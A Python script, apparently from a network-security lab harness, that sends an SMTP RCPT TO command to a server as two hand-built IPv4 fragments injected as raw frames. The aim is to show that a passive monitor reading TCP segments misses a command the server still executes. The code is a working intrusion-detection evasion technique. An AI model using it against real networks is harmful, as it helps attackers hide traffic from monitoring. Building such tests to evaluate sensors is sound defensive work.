#!/usr/bin/python3
"""
fragment.py SERVER RCPT -- the passive monitor's classic blind spot
(Ptacek & Newsham), live, from the attacker namespace (as root): a real
TCP connection to SERVER:25, EHLO and MAIL through the kernel's socket,
then RCPT TO:<RCPT> as two IPv4 fragments handed to the gateway on the
wire at the sequence numbers the session has reached (the first carries
the TCP header and 4 bytes of the line).  The server's stack reassembles
them and executes the RCPT; a sensor that reads segments sees no command.

The client's TCP never sent those bytes, so it drops the server's reply
(it acknowledges data it does not know); what it can still get is a
reset.  Prints one JSON object: "reset" true if the connection was reset
within WAIT seconds.
"""

import json
import socket
import struct
import sys

import forge
import techniques as T

WAIT = 3.0


def fragments(packet, split):
    """The IPv4 packet as two fragments, split bytes of payload first
    (a multiple of 8); DF cleared."""
    ihl = (packet[0] & 0x0F) * 4
    hdr, pay = bytearray(packet[:ihl]), packet[ihl:]
    out = []
    for off, chunk, more in ((0, pay[:split], True),
                             (split, pay[split:], False)):
        h = bytearray(hdr)
        struct.pack_into("!H", h, 2, ihl + len(chunk))
        struct.pack_into("!H", h, 6, (0x2000 if more else 0) | off // 8)
        struct.pack_into("!H", h, 10, 0)
        s = sum(struct.unpack("!%dH" % (ihl // 2), bytes(h)))
        while s >> 16:
            s = (s & 0xFFFF) + (s >> 16)
        struct.pack_into("!H", h, 10, ~s & 0xFFFF)
        out.append(bytes(h) + chunk)
    return out


def main(argv):
    server, rcpt = argv
    out = {"reset": False}
    forge.realtime()
    sn = forge.Sniffer()
    sock = socket.create_connection((server, 25), timeout=forge.WAIT)
    cport = sock.getsockname()[1]
    buf = [b""]
    try:
        forge.read_reply(sock, buf)
        sock.sendall(b"EHLO attacker.test\r\n")
        forge.read_reply(sock, buf)
        sock.sendall(b"MAIL FROM:<fragments@sender.test>\r\n")
        forge.read_reply(sock, buf)
        sn.drain(server, cport)
        gw = forge.neighbour_mac(forge.GATEWAY)
        with open("/sys/class/net/eth0/address") as f:
            mine = bytes.fromhex(f.read().strip().replace(":", ""))
        if sn.srv_next is None or sn.cli_next is None or gw is None:
            raise RuntimeError("sequence numbers or gateway MAC unknown")
        line = b"RCPT TO:<%s>\r\n" % rcpt.encode()
        pkt = T.tcp_packet(sock.getsockname()[0], server, cport, 25,
                           sn.cli_next, sn.srv_next, "PA", line)
        for frag in fragments(pkt, 24):
            sn.s.send(gw + mine + b"\x08\x00" + frag)
        out["sent"] = len(line)
        sock.settimeout(WAIT)
        data = sock.recv(4096)
        out["reply"] = data[:3].decode("latin-1") if data else "closed"
    except (ConnectionResetError, BrokenPipeError):
        out["reset"] = True
    except (TimeoutError, socket.timeout) as e:
        out["error"] = str(e) or "timeout"
    except (OSError, RuntimeError) as e:
        out["error"] = str(e)
    finally:
        sock.close()
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
